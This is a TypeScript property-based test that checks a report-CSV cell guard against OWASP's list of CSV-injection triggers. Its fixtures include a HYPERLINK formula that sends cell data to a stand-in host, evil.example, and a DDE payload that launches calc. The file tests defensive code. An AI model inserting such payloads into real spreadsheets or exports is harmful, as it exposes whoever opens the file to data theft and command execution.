/**
 * Property: no text cell of a report CSV starts with what a spreadsheet reads as a formula (OWASP's
 * CSV injection list: = + - @ tab carriage return, plus line feed and NUL), and every cell reads
 * back as the text it came from, behind one leading quote where the guard added it.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvCell } from '../src/domain/report-csv.ts';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];

/** RFC 4180 reading of one cell. */
function unquote(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
}

const hostileText = fc.oneof(
  fc.string(),
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([first, rest]) => first + rest),
  fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"x")', '\t=1+1', "\r=cmd|' /C calc'!A0", '@SUM(1)'),
);

describe('report CSV cells', () => {
  it('never start with a formula trigger, and read back as the original text', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const cell = csvCell(text);
        const read = unquote(cell);
        expect(TRIGGERS.some((trigger) => read.startsWith(trigger))).toBe(false);
        const guarded = TRIGGERS.some((trigger) => text.startsWith(trigger));
        expect(read).toBe(guarded ? `'${text}` : text);
        // one cell: separators and line breaks only inside quotes
        if (/[",\r\n]/.test(read)) expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('a leading tab or carriage return is guarded like =', () => {
    expect(unquote(csvCell('\t=1+1'))).toBe("'\t=1+1");
    expect(unquote(csvCell('\r=1+1'))).toBe("'\r=1+1");
  });

  it('numbers stay numbers, negative ones too, and null is an empty cell', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(0.25)).toBe('0.25');
    expect(csvCell(null)).toBe('');
  });
});
